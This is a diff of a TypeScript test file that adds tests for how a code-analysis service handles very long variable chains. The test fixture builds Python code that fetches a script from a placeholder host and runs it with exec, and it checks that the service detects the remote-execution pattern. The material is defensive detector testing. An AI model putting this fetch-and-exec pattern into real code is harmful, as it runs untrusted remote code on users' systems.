@@ -208,6 +208,34 @@ describe('service', () => {
     });
   });
 
+  describe('limits', () => {
+    const chain = (length: number) =>
+      [
+        'import requests',
+        'a0 = requests.get("https://example.com/a.py").text',
+        ...Array.from({ length }, (_, i) => `a${i + 1} = a${i}`),
+        `exec(a${length})`,
+      ].join('\n');
+
+    it('do not matter for what people write', () => {
+      const { findings, note } = service.check({ uri: 'a', language: 'python', text: chain(60) });
+      assert.deepEqual(
+        findings.map((it) => `${it.rule} ${it.severity}`),
+        ['remote-exec error'],
+      );
+      assert.equal(note, undefined);
+    });
+
+    it('are told, and what lies behind them is not taken for safe', () => {
+      const { findings, note } = service.check({ uri: 'a', language: 'python', text: chain(20_000) });
+      assert.deepEqual(
+        findings.map((it) => `${it.rule} ${it.severity}`),
+        ['runtime-compile hint'],
+      );
+      assert.match(note ?? '', /findings may be missing/);
+    });
+  });
+
   describe('refusals', () => {
     it('of a language that is not prepared', async () => {
       const fresh = await createService(createNodeHost({ environment: {} }));
